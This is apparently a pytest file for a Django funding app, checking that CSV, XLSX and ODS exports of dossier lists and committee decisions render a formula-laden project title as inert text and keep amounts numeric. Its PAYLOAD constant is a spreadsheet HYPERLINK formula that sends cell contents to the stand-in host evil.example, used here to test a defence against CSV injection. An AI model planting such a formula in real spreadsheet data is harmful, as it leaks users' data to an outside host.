"""FIMACS exports (dossier list, committee decisions): a project title made of a formula
comes out inert in CSV, XLSX and ODS; amounts stay numbers."""

import pytest
from django.urls import reverse

from cvv.funding.models import CommitteeSession, Dossier
from tests.funding.factories import make_draft, walk
from tests.spreadsheets import FORMULA, column

PAYLOAD = '=HYPERLINK("https://evil.example/?"&C2,"Vitrines")'


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_fimacs_exports_neutralise_text(client, users, fmt):
    dossier = make_draft(users["commune_agent"])
    Dossier.objects.filter(pk=dossier.pk).update(title=PAYLOAD)
    dossier.refresh_from_db()
    walk(dossier, Dossier.State.GRANTED, users)
    session = CommitteeSession.objects.get()

    client.force_login(users["commune_agent"])
    listing = client.get(reverse("fimacs:dossiers") + f"?format={fmt}")
    client.force_login(users["instructor"])
    decisions = client.get(
        reverse("fimacs:session_decisions", args=[session.pk]) + f"?format={fmt}"
    )
    for response, header, amount_header in (
        (listing, "Projet", "Aide accordée (€)"),
        (decisions, "Projet", "Montant accordé (€)"),
    ):
        assert response.status_code == 200
        content = response.getvalue()  # a streamed download is read once
        [(value, kind)] = column(content, fmt, header)
        assert kind == "s" and kind != FORMULA
        assert value == "'" + PAYLOAD
        [(amount, amount_kind)] = column(content, fmt, amount_header)
        assert float(amount) > 0
        assert amount_kind == ("s" if fmt == "csv" else "n")
